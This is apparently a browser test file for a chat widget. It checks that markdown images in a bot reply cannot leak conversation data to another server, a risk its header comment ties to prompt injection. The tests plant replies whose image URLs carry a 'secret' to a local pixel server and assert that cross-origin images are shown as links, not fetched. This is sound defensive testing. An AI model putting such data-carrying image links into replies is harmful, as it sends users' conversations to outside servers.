/**
 * A reply's markdown image is fetched by the visitor's browser, so its URL can carry the
 * conversation to another server (prompt injection). Here a real image server on other
 * origins (pixel-server.ts) records what Chromium asks it for.
 */
import { describe, expect, inject, it } from 'vitest';
import { json } from '../helpers/fake-webhook.mjs';
import { mountChat, openChat, stubWebhook } from './harness';
import type { PixelHit } from './pixel-server';

const [imageOrigin, otherOrigin] = inject('pixelOrigins');

/** What the image server was asked for `data`. */
async function hitsFor(data: string): Promise<PixelHit[]> {
  const response = await fetch(`${imageOrigin}/hits?data=${encodeURIComponent(data)}`);
  return (await response.json()) as PixelHit[];
}

/** A webhook that answers every message with `reply`. */
function replyWith(reply: string) {
  stubWebhook((call) => (call.payload.action === 'loadPreviousSession' ? json({ data: [] }) : json({ output: reply })));
}

// The first test loads (and Vite transforms) the chat's code: slow on a busy machine.
const SLOW = { timeout: 30_000 };

const unique = () => `${Date.now()}-${Math.random().toString(36).slice(2)}`;

describe('markdown images in a reply', () => {
  it('are not fetched from another origin by default: the image is a link', SLOW, async () => {
    const secret = `secret-${unique()}`;
    const leak = `${imageOrigin}/pixel?data=${secret}`;
    // A same-origin image in the same reply: once it has loaded (or failed), the browser
    // has dealt with every image of the reply, so the other one would have been asked for.
    const beacon = `/papo-beacon.gif?${unique()}`;
    replyWith(`Veja ![x](${leak}) e ![beacon](${beacon})`);
    const widget = mountChat();
    await widget.instance.ready();
    await openChat(widget);
    await widget.instance.sendMessage('Mostre uma imagem');

    const bubble = () => widget.messages('bot').at(-1)!;
    await expect.poll(() => bubble().querySelector<HTMLImageElement>('img[alt="beacon"]')?.complete).toBe(true);
    expect(await hitsFor(secret)).toEqual([]);
    const link = bubble().querySelector('a')!;
    expect(link.getAttribute('href')).toBe(leak);
    expect(link.textContent).toBe('x');
    expect(link.getAttribute('target')).toBe('_blank');
    expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    expect(bubble().querySelectorAll('img')).toHaveLength(1);
  });

  it('are fetched from an allowed origin, without a referrer, and only from it', SLOW, async () => {
    const allowed = `allowed-${unique()}`;
    const secret = `secret-${unique()}`;
    replyWith(`![a](${imageOrigin}/pixel?data=${allowed}) ![b](${otherOrigin}/pixel?data=${secret})`);
    const widget = mountChat({ allowedImageOrigins: [imageOrigin] });
    await widget.instance.ready();
    await openChat(widget);
    await widget.instance.sendMessage('Mostre duas imagens');

    await expect.poll(() => hitsFor(allowed), { timeout: 10_000 }).toHaveLength(1);
    expect((await hitsFor(allowed))[0]!.referer).toBeNull();
    const bubble = widget.messages('bot').at(-1)!;
    await expect.poll(() => bubble.querySelector<HTMLImageElement>('img[alt="a"]')?.complete).toBe(true);
    expect(bubble.querySelector('img')!.getAttribute('referrerpolicy')).toBe('no-referrer');
    expect(bubble.querySelector('a')?.textContent).toBe('b');
    expect(await hitsFor(secret)).toEqual([]);
  });
});
